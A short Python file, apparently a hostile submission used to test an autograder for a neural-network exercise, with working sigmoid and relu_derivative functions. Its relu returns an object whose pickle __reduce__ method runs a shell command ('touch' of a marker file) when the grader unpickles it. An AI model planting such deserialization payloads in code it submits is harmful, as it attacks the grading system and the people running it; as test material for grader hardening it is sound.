"""Hostile: relu returns an object whose unpickling would run a command in the grader."""

import os

import numpy as np


class Payload:
    def __reduce__(self):
        return (os.system, ("touch /tmp/nnspec-hostile-pwned",))


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def relu_derivative(z):
    return (z > 0).astype(z.dtype)


def relu(z):
    return Payload()
